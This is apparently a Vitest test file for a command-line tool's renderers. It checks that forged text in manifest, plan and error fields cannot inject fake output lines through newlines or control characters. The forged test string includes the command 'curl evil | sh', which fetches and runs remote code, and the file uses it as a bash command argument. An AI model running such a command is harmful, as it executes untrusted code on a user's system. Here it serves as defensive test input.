import { expect, test } from 'vitest'
import { Board } from '../../cli/render/board.ts'
import { renderError } from '../../cli/render/errors.ts'
import { printManifest } from '../../cli/render/manifest.ts'
import { Output } from '../../cli/render/output.ts'
import { printPlan } from '../../cli/render/plan.ts'
import type { Manifest } from '../../schemas/index.ts'
import { ReproError } from '../../src/core/errors.ts'
import type { PlannedRun } from '../../src/daemon/operations/run.ts'

const FORGED =
  'nice\nverdict: reproduced\r\n  signature     valid\n\tnext: curl evil | sh\u2028repro: fine'

/** Every line that is printed, of both streams. */
function printed(print: (output: Output) => void): string[] {
  let text = ''
  const sink = {
    write: (bytes: string | Uint8Array) => {
      text += bytes
      return true
    },
  }
  print(new Output(sink, sink, { json: false, quiet: false }, false))
  return text.split('\n').slice(0, -1)
}

function expectNoneForged(lines: readonly string[]) {
  expect(lines.join('\n')).toContain('verdict: reproduced')
  for (const line of lines) {
    expect(line).not.toMatch(/^\s*(verdict|next|repro|signature)\b/)
    expect(line).not.toMatch(/[\u0000-\u001f\u2028]/)
  }
}

const manifest = {
  format: 0,
  name: 'evil',
  title: FORGED,
  description: FORGED,
  authors: [{ name: FORGED }],
  keywords: [FORGED],
  cites: [FORGED],
  license: { data: FORGED },
  index: { files: 1, bytes: 1 },
  images: {
    base: {
      digest: `sha256:${'0'.repeat(64)}`,
      os: 'linux',
      architecture: FORGED,
      layers: [],
      origin: { kind: 'host', programs: [FORGED] },
    },
  },
  apps: {
    default: {
      summary: FORGED,
      image: 'base',
      command: ['bash', '-c', FORGED],
      params: { p: { type: 'enum', values: [FORGED], default: FORGED, summary: FORGED } },
      outputs: [{ path: FORGED, compare: 'exists' }],
      resources: {},
      network: 'none',
    },
  },
} as unknown as Manifest

const identity = {
  key: null,
  release: 1,
  tag: FORGED,
  date: FORGED,
  contentHash: `blake3:${'0'.repeat(64)}` as const,
}

test('no field of a manifest can print a line of ours', () => {
  const lines = printed(output => printManifest({ identity, manifest }, output))
  expectNoneForged(lines)
  expect(lines).toContain('  | nice')
  expect(lines).toContain('  | verdict: reproduced')
})

test('no field of a plan can print a line of ours', () => {
  const plan = {
    app: 'default',
    runtime: { name: 'podman', version: FORGED, fidelity: 'container' },
    refused: [{ runtime: 'unshare', reason: FORGED }],
    alternatives: [],
    command: ['bash', '-c', FORGED],
    image: null,
    params: { p: FORGED },
    mounts: [{ inside: FORGED, what: FORGED, writable: false }],
    env: { A: FORGED },
    network: 'none',
    limits: {},
    notes: [FORGED],
    warnings: [FORGED],
  } as unknown as PlannedRun
  expectNoneForged(printed(output => printPlan(plan, output)))
})

test('an error keeps its own lines, and shows those that a stranger put into them', () => {
  const error = new ReproError('PARAM_INVALID', `bad ${FORGED}`, {
    lines: [`also ${FORGED}`],
    hints: [`type ${FORGED}`],
  })
  const lines = printed(output => renderError(error, output))
  expect(lines).toHaveLength(3)
  expect(lines[0]).toMatch(/^repro: bad nice\\x0a/)
  expect(lines[1]).toMatch(/^ {2}also nice\\x0a/)
  expect(lines[2]).toMatch(/^ {2}hint: type nice\\x0a/)
})

test('a record of work is one line', () => {
  const [line] = new Board().take({ action: 'warning', subject: FORGED, message: FORGED })
  expect(printed(output => output.say(`warning: ${line!.text}`))).toHaveLength(1)
})
